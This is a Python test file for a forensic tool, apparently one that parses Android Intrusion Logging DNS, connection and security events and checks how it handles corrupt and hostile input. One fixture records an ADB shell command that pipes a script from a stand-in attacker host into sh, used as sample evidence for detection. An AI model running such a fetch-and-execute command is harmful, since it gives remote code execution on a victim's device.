"""android_intrusion_{dns,connect,security}: Intrusion Logging events from a download (folder
or zip) and from androidqf's intrusion_logs/."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from spyglass.acquisitions import open_acquisition
from spyglass.acquisitions.android_intrusion import AndroidIntrusionLogs
from spyglass.errors import EvidenceError
from spyglass.modules.android import (
    android_intrusion_connect,
    android_intrusion_dns,
    android_intrusion_security,
)
from spyglass.records import Observable, Record
from spyglass.runner import locate, parse_file
from tests.builders.android import AndroidQFBuilder
from tests.builders.android_intrusion import CONNECT, DAY, DNS, logs_folder, logs_zip, ndjson


def _records(acquisition, module) -> list[Record]:
    return [r for f in locate(module.ARTIFACT, acquisition) for r in parse_file(module.ARTIFACT, module.parse, f)]


@pytest.mark.parametrize("build", [logs_folder, logs_zip])
def test_android_intrusion_dns_and_connect(tmp_path: Path, build) -> None:
    acquisition = AndroidIntrusionLogs(build(tmp_path))
    [dns] = _records(acquisition, android_intrusion_dns)
    assert dns.timestamp == datetime(2026, 6, 9, 22, 3, 6, 821000, tzinfo=UTC)
    assert dns.message == "DNS lookup of cdn3.signal.org by org.thoughtcrime.securesms: 2606:4700::6812:a2f, 104.18.11.47"
    assert dns.fields["ip_addresses"] == ["2606:4700::6812:a2f", "104.18.11.47"]
    assert (dns.fields["ip_addresses_count"], dns.fields["event_id"], dns.fields["line"]) == (2, 16372, 1)
    assert dns.observables == (Observable("domain", "cdn3.signal.org"), Observable("ip", "2606:4700::6812:a2f"),
                               Observable("ip", "104.18.11.47"), Observable("app_id", "org.thoughtcrime.securesms"))
    [connect] = _records(acquisition, android_intrusion_connect)
    assert connect.timestamp == datetime(2026, 6, 9, 22, 3, 6, 823000, tzinfo=UTC)
    assert connect.message == "Connection to [2606:4700::6812:a2f]:443 by org.thoughtcrime.securesms"
    assert (connect.fields["ip_address"], connect.fields["port"]) == ("2606:4700::6812:a2f", 443)
    assert connect.observables == (Observable("ip", "2606:4700::6812:a2f"),
                                   Observable("app_id", "org.thoughtcrime.securesms"))
    acquisition.close()


def test_android_intrusion_security(tmp_path: Path) -> None:
    acquisition = AndroidIntrusionLogs(logs_folder(tmp_path))
    records = _records(acquisition, android_intrusion_security)
    acquisition.close()
    assert [r.fields["event_type"] for r in records] == [
        "app_process_start", "adb_sync_recv_file", "adb_shell_cmd", "cert_authority_installed",
        "keyguard_dismissed", "future_google_event"]
    start, pull, shell, ca, keyguard, future = records
    # Security events are timed in nanoseconds.
    assert start.timestamp == datetime(2026, 6, 8, 21, 51, 54, 182276, tzinfo=UTC)
    assert start.message == "App process started: com.example.app:remote"
    assert (start.fields["process_name"], start.fields["pid"], start.fields["uid"]) == ("com.example.app:remote", 12345, 10123)
    assert start.observables == (Observable("process", "com.example.app:remote"), Observable("app_id", "com.example.app"),
                                 Observable("sha256", "ab" * 32))
    assert pull.fields["file_path"] == "sdcard/Download/Intrusion Logging/x.zip"
    assert pull.observables == (Observable("file_path", "sdcard/Download/Intrusion Logging/x.zip"),)
    assert shell.message == "Adb shell command: curl http://evil-domain.com/p.sh | sh"
    assert shell.observables == (Observable("url", "http://evil-domain.com/p.sh"),)
    assert (ca.fields["subject"], ca.fields["success"]) == ("CN=Totally Legit Root", True)
    assert ca.message == "Certificate authority installed: CN=Totally Legit Root"
    assert (keyguard.message, keyguard.fields["details"]) == ("Lock screen dismissed", {})
    assert future.message == "Security event future_google_event"
    assert future.fields["details"] == {"x": 1}


def test_android_intrusion_androidqf_folder(tmp_path: Path) -> None:
    builder = AndroidQFBuilder().add("intrusion_logs/2026-06-08.txt", DAY)
    acquisition = open_acquisition(builder.build_folder(tmp_path))
    assert len(_records(acquisition, android_intrusion_security)) == 6
    assert [f.source for f in locate(android_intrusion_dns.ARTIFACT, acquisition)] == ["intrusion_logs/2026-06-08.txt"]
    acquisition.close()


def test_android_intrusion_empty_file(tmp_path: Path) -> None:
    acquisition = AndroidIntrusionLogs(logs_folder(tmp_path, {"2026-06-08.txt": DAY, "2026-06-09.txt": b""}))
    assert [r.fields["line"] for r in _records(acquisition, android_intrusion_dns)] == [1]
    acquisition.close()


def test_android_intrusion_corrupt_lines_after_good_ones(tmp_path: Path) -> None:
    data = ndjson([DNS]) + b'{"dns_event": {"hostname": "cut\n' + b'{"dns_event": ' + b"[" * 50 + b"\n" + ndjson([CONNECT])
    acquisition = AndroidIntrusionLogs(logs_folder(tmp_path, {"2026-06-08.txt": data}))
    [file] = locate(android_intrusion_dns.ARTIFACT, acquisition)
    got = []
    with pytest.raises(EvidenceError, match=r"^2026-06-08\.txt: 2 dns_event line\(s\) could not be read "
                                            r"\(first: line 2: the event is not valid JSON \(Invalid control character at: line 1 column 32"):
        for record in android_intrusion_dns.parse(file):
            got.append(record)
    assert [r.fields["hostname"] for r in got] == ["cdn3.signal.org"]
    # The connect module reads its own lines and is not disturbed.
    assert len(list(android_intrusion_connect.parse(file))) == 1
    acquisition.close()


def test_android_intrusion_too_deep_and_wrong_shape(tmp_path: Path) -> None:
    data = b'{"security_event": ' + b"[" * 20 + b"]" * 20 + b"}\n" + b'{"security_event": 5}\n'
    acquisition = AndroidIntrusionLogs(logs_folder(tmp_path, {"2026-06-08.txt": DAY + data}))
    [file] = locate(android_intrusion_security.ARTIFACT, acquisition)
    with pytest.raises(EvidenceError, match=r"^2026-06-08\.txt: 2 security_event line\(s\) could not be read "
                                            r"\(first: line 9: the event nests 21 deep, over the bound of 8\)$"):
        list(android_intrusion_security.parse(file))
    acquisition.close()


def test_android_intrusion_hostile_values(tmp_path: Path) -> None:
    data = ndjson([{"dns_event": {"hostname": ["x"], "ip_addresses": "1.2.3.4", "event_time": "late"}},
                   {"connect_event": {"ip_address": "/not-an-ip", "port": True, "package_name": "android.uid.system:1000"}},
                   {"security_event": {"event_time": 1}}])
    acquisition = AndroidIntrusionLogs(logs_folder(tmp_path, {"2026-06-08.txt": DAY + data}))
    dns = _records(acquisition, android_intrusion_dns)[-1]
    assert (dns.fields["hostname"], dns.fields["ip_addresses"], dns.timestamp, dns.observables) == (None, [], None, ())
    connect = _records(acquisition, android_intrusion_connect)[-1]
    assert (connect.fields["ip_address"], connect.fields["port"], connect.observables) == (None, None, ())
    security = _records(acquisition, android_intrusion_security)[-1]
    assert (security.fields["event_type"], security.message) == (None, "Security event (unnamed)")
    acquisition.close()
